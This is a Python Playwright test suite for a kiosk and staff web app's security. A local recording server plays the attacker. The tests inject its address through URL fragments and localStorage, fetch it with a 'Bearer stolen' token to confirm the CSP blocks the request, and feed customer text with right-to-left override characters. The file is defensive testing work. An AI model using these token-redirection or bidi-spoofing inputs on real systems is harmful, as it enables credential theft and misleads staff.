"""The pages keep credentials at home: the API address comes from the deployment only, the
CSP allows nothing else, and customer text cannot reorder what staff read."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import requests
from playwright.sync_api import Route

from devtools.dynamodb_local import free_port
from devtools.pages import api_origin, content_security_policy
from tests.browser.conftest import screen, screenshot, wait_until
from tests.browser.staff_page import card, fake_task, sign_in

pytestmark = pytest.mark.browser


class Recorder(ThreadingHTTPServer):
    """An attacker's server: answers everything (CORS open) and records what it got."""

    def __init__(self) -> None:
        self.requests: list[dict[str, str]] = []
        super().__init__(("127.0.0.1", free_port()), _Record)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Record(BaseHTTPRequestHandler):
    server: Recorder

    def _answer(self) -> None:
        self.server.requests.append(
            {"path": self.path, "authorization": self.headers.get("Authorization", "")}
        )
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"tasks": [], "results": []}')

    do_GET = do_POST = do_OPTIONS = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[Recorder]:
    server = Recorder()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def test_a_link_cannot_send_the_staff_token_to_another_address(stack, browser, attacker):
    context = browser.new_context()
    # As an older version of the page would have kept it from an earlier link.
    context.add_init_script(f"localStorage.setItem('api', '{attacker.url}')")
    page = context.new_page()
    staff_url = stack.demo["staff_url"]
    page.goto(f"{staff_url}#api={attacker.url}&store={stack.demo['store_id']}")
    page.wait_for_selector("#screen-signin:not([hidden])")

    sign_in(page, stack.demo["staff_token"])

    page.wait_for_selector("#screen-tasks:not([hidden])")
    wait_until(lambda: page.locator("#recovery dd[data-value]").count(), message="figures")
    assert attacker.requests == []
    assert page.url == staff_url  # the fragment is gone from the address bar
    context.close()


def test_a_link_cannot_send_the_kiosk_token_to_another_address(stack, browser, attacker):
    context = browser.new_context()
    page = context.new_page()
    kiosk_url = stack.demo["kiosk_url"].split("#")[0]
    page.goto(f"{kiosk_url}?sync=500&batch=1#api={attacker.url}&token={stack.demo['kiosk_token']}")
    page.wait_for_selector("#screen-rate:not([hidden])")

    page.click('.face[data-score="5"]')
    wait_until(lambda: screen(page) == "followup")
    page.click("#followup-skip")
    wait_until(
        lambda: (
            page.get_attribute("#sync-status", "data-state") == "synced"
            and page.get_attribute("#sync-status", "data-waiting") == "0"
        ),
        message="the rating is sent",
    )

    assert attacker.requests == []
    context.close()


def test_the_pages_are_served_with_a_csp_that_names_only_the_api(stack, browser, attacker):
    api_url = stack.demo["api_url"]
    pages = stack.demo["kiosk_url"].split("/kiosk/")[0]
    cognito = stack.demo["cognito_endpoint"].rstrip("/") + "/"
    expected = content_security_policy(api_origin(api_url), api_origin(cognito))
    for path in ("/kiosk/", "/kiosk/app.js", "/staff/", "/staff/app.js"):
        response = requests.get(f"{pages}{path}", timeout=5)
        assert response.headers["Content-Security-Policy"] == expected
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert requests.get(f"{pages}/config.json", timeout=5).json() == {
        "api_url": api_url,
        "cognito_endpoint": cognito,
        "user_pool_client_id": stack.demo["user_pool_client_id"],
        "region": stack.demo["region"],
    }

    page = browser.new_page()
    page.goto(stack.demo["staff_url"])
    page.wait_for_selector("#screen-signin:not([hidden])")
    outcome = page.evaluate(
        "url => fetch(url, {headers: {Authorization: 'Bearer stolen'}})"
        ".then(() => 'sent', () => 'blocked')",
        f"{attacker.url}/steal",
    )

    assert outcome == "blocked"
    assert attacker.requests == []
    page.close()


def test_the_api_answers_are_not_cached_or_sniffed(stack):
    response = requests.get(
        f"{stack.demo['api_url']}/v1/callbacks?store_id={stack.demo['store_id']}",
        headers={"Authorization": f"Bearer {stack.demo['staff_token']}"},
        timeout=5,
    )

    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_customer_text_is_isolated_so_it_cannot_reorder_what_staff_read(stack, open_staff):
    # U+202E (right-to-left override) would show "4321 8765" as "5678 1234" and run on into
    # the masked number beside it.
    due = datetime.now(UTC) + timedelta(hours=3)
    task = fake_task("t-bidi", due, "+1******0199", "\u202e4321 8765")
    task["ratings"][0]["comment"] = "call me on \u202e4321\u200b 8765"
    task["claimed_by"] = None

    def tasks(route: Route) -> None:
        status = re.search(r"status=(\w+)", route.request.url).group(1)
        body = {"tasks": [task] if status == "open" else []}
        route.fulfill(body=json.dumps(body), headers={"Access-Control-Allow-Origin": "*"})

    page = open_staff()
    page.route(re.compile(r"/v1/callbacks\?"), tasks)
    sign_in(page, stack.demo["staff_token"])
    card(page, "t-bidi").wait_for()

    name = card(page, "t-bidi").locator("h3 bdi")
    comment = card(page, "t-bidi").locator(".comment bdi")
    assert name.text_content() == "4321 8765"
    assert comment.text_content() == "call me on 4321 8765"
    for node in (name, comment):
        assert node.evaluate("node => getComputedStyle(node).unicodeBidi") == "isolate"
    # The masked number beside the name still reads left to right, after the name.
    name_box = name.bounding_box()
    masked_box = card(page, "t-bidi").locator("h3 .masked").bounding_box()
    assert name_box is not None
    assert masked_box is not None
    assert masked_box["x"] >= name_box["x"] + name_box["width"] - 1
    screenshot(page, "staff-11-bidi-isolated")
